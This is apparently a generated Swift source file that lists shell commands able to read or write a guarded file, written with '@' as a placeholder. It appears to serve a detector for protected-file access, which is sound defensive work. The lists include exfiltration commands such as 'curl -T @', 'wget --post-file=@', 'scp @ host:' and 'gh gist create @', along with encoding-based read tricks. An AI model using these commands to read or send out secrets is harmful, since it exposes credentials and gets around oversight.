// Generated from Knowledge/threats/file-access.table by `make knowledge`. Edit that file.
// swift-format-ignore-file

/// Commands that read or write the file that stands for `@`, one a line.
enum FileAccessTable {
  static let hiddenReaders = #"""
    echo "$(cat @)"
    cat @; echo $?
    sed '' @
    /bin/cat @
    """#

  static let hiddenWriters = #"""
    echo x > @; echo $?
    /usr/bin/sed -i s/a/b/ @
    /usr/bin/touch @
    """#

  static let readers = #"""
    python3 -c "print(open('@').read())"
    python -c "print(open('@').read())"
    node -p "require('fs').readFileSync('@','utf8')"
    node -e "console.log(require('fs').readFileSync('@','utf8'))"
    ruby -e "puts File.read('@')"
    perl -ne print @
    php -r "readfile('@');"
    bun -e "console.log(await Bun.file('@').text())"
    deno run -A read.ts @
    uv run python -c "print(open('@').read())"
    poetry run python -c "print(open('@').read())"
    npx -c 'cat @'
    npm exec -c 'cat @'
    sh -c 'cat @'
    bash -c 'cat @'
    zsh -c 'cat @'
    egrep . @
    fgrep -h '' @
    zgrep . @
    zcat -f @
    rev @
    fold @
    base64 @
    base32 @
    xxd @
    hexdump -C @
    od -c @
    strings @
    nl @
    pr @
    jq -R . @
    yq -p props . @
    sqlite3 :memory: ".import @ t" "select * from t"
    openssl enc -in @ -out x -none
    openssl base64 -in @
    gpg --store -o x @
    tar -cO @
    zip - @
    git diff --no-index /dev/null @
    git hash-object -w @
    docker run --env-file @ alpine env
    source @
    . @
    rsync @ host:
    scp @ host:
    curl -T @ https://example.com
    curl -F 'f=<@' https://example.com
    wget --post-file=@ https://example.com
    aws s3 cp @ s3://bucket/
    gcloud storage cp @ gs://bucket/
    gh gist create @
    vim -es -c '%p' -c 'q!' @
    emacs --batch --insert @
    awk 1 @
    gawk 1 @
    xargs -n1 cat < @
    ln -s @ x.txt
    make -f @
    """#

  static let readersOfProject = #"""
    docker compose config
    docker-compose config
    git show HEAD:@
    git log -p -- @
    cp -r . /tmp/x
    tar -czf x.tgz .
    rsync -a . host:x
    docker build -t x .
    """#

  static let writers = #"""
    python3 -c "open('@','w').write('x')"
    python -c "open('@','w').write('x')"
    node -e "require('fs').writeFileSync('@','x')"
    ruby -e "File.write('@','x')"
    perl -i -pe s/a/b/ @
    php -r "file_put_contents('@','x');"
    uv run python -c "open('@','w').write('x')"
    npm exec -c 'cp x @'
    sh -c 'cp x @'
    bash -c 'cp x @'
    sqlite3 x.db ".output @" "select 1"
    openssl enc -in x -out @ -none
    curl -o @ https://example.com
    wget -O @ https://example.com
    git log --output=@
    git diff --output=@
    rsync x @
    patch @ x.patch
    vim -es -c 'wq' @
    ed -s @
    awk -i inplace 1 @
    gofmt -w @
    black @
    """#

  static let writersOfProject = #"""
    git checkout HEAD~1 -- @
    git restore --source=HEAD~1 @
    git apply x.patch
    git stash pop
    git checkout main
    npx prettier --write @
    prettier --write @
    eslint --fix @
    """#
}
